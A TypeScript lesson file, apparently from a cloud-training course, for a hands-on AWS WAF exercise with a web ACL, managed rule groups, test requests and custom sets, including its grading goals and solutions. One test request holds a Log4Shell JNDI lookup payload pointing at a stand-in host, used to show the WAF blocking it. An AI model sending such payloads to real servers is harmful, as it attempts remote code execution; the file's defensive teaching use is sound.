import { changed, managedGroup, request, ruleOf, visible, webAcl } from "@/content/claims/waf-parts";
import type { JsonObject } from "@/lib/engine/types";
import type { Goal, LessonMeta, SolutionCall } from "@/lib/lessons/types";

const region = "us-east-1";
const Scope = "CLOUDFRONT";
const waf = (operation: string, input: JsonObject): SolutionCall => ({ service: "wafv2", operation, region, input });
const groups = [
  ruleOf("admin-protection", 0, managedGroup("AWSManagedRulesAdminProtectionRuleSet")), ruleOf("ip-reputation", 1, managedGroup("AWSManagedRulesAmazonIpReputationList")),
  ruleOf("core-rules", 2, managedGroup("AWSManagedRulesCommonRuleSet")), ruleOf("bad-inputs", 3, managedGroup("AWSManagedRulesKnownBadInputsRuleSet")),
];
const distribution: SolutionCall = { service: "traffic", operation: "AddResource", region, input: { ResourceType: "CLOUDFRONT", Name: "site" } };
const created: SolutionCall[] = [distribution, waf("CreateWebACL", webAcl("site", groups, { Scope, Description: "before the website" }))];
const associated: SolutionCall[] = [...created, { service: "traffic", operation: "UpdateDistribution", region, input: { ResourceArn: "$1.Resource.Arn", WebACLId: "$2.Summary.ARN" } }];
const send = (more: JsonObject): SolutionCall => ({ service: "traffic", operation: "Inspect", region, input: { ResourceArn: "$1.Resource.Arn", Requests: [request(more)] } });
const inspected: SolutionCall[] = [...associated, send({ Uri: "/sqlmanager/" }), send({ ClientIp: "198.51.100.9" }), send({ Headers: [{ Name: "Host", Value: "site.example" }] }), send({ Uri: "/?q=$%7Bjndi:ldap://198.51.100.7/a%7D" }), send({})];
const blockedWithin = (rule: string): Goal => ({ called: { service: "traffic", operation: "Inspect", output: { "Outcomes.0.Action": "BLOCK", "Outcomes.0.RuleWithinGroup": rule } } });
/** A web ACL for CloudFront that holds four rules or more, whether it was made so or came to it. */
const four = (operation: string): Goal => ({ called: { service: "wafv2", operation, input: { Scope, "Rules.length": { atLeast: 4 } } } });
const list = (what: string): { console: string } => ({ console: `/console/wafv2/${what}/global` });

const meta: LessonMeta = {
  slug: "waf-hands-on",
  dir: "07-waf/05-hands-on",
  title: "WAF by hand",
  section: "waf",
  order: 25,
  minutes: 15,
  summary: "A web ACL before a website, by the console’s wizard, step by step: CloudFront, four managed rule groups, the default action, priorities, metrics and sets.",
  steps: [
    { id: "distribution", title: "Add a distribution", goal: { called: { service: "traffic", operation: "AddResource", input: { ResourceType: "CLOUDFRONT" } } }, solution: [distribution] },
    { id: "create", title: "Create the web ACL with four groups", goal: { any: [four("CreateWebACL"), four("UpdateWebACL")] }, solution: created, where: { console: "/console/wafv2/create/web-acl/global" } },
    { id: "associate", title: "Put it on the distribution", goal: { called: { service: "traffic", operation: "UpdateDistribution", input: { WebACLId: { matches: ":global/webacl/" } } } }, solution: associated, where: list("web-acls") },
    { id: "inspected", title: "Send a request for each group", where: { console: "/console/wafv2/requests" }, goal: { all: [blockedWithin("AdminProtection_URIPATH"), blockedWithin("AWSManagedIPReputationList"), blockedWithin("NoUserAgent_HEADER"), blockedWithin("Log4JRCE_QUERYSTRING")] }, solution: inspected },
    {
      id: "samples", title: "Look at what it kept", goal: { called: { service: "wafv2", operation: "GetSampledRequests" } }, where: list("web-acls"),
      solution: [...inspected, waf("GetSampledRequests", { WebAclArn: "$2.Summary.ARN", RuleMetricName: "core-rules", Scope, MaxItems: 10, TimeWindow: { StartTime: 0, EndTime: 1 } })],
    },
    {
      id: "sets", title: "Make sets, and a rule group of them", goal: { all: [{ called: { service: "wafv2", operation: "CreateIPSet", input: { Scope } } }, { called: { service: "wafv2", operation: "CreateRegexPatternSet", input: { Scope } } }, { called: { service: "wafv2", operation: "CreateRuleGroup", input: { Scope } } }] }, where: list("rule-groups"),
      solution: [
        waf("CreateIPSet", { Name: "site-pests", Scope, IPAddressVersion: "IPV4", Addresses: ["203.0.113.0/28"] }),
        waf("CreateRegexPatternSet", { Name: "site-backups", Scope, RegularExpressionList: [{ RegexString: "[.](bak|old|sql)$" }] }),
        waf("CreateRuleGroup", { Name: "house-rules", Scope, Capacity: 50, VisibilityConfig: visible("house-rules"), Rules: [ruleOf("pests", 0, { IPSetReferenceStatement: { ARN: "$1.Summary.ARN" } }), ruleOf("backups", 1, { RegexPatternSetReferenceStatement: { ARN: "$2.Summary.ARN", FieldToMatch: { UriPath: {} }, TextTransformations: changed() } })] }),
      ],
    },
  ],
};

export default meta;
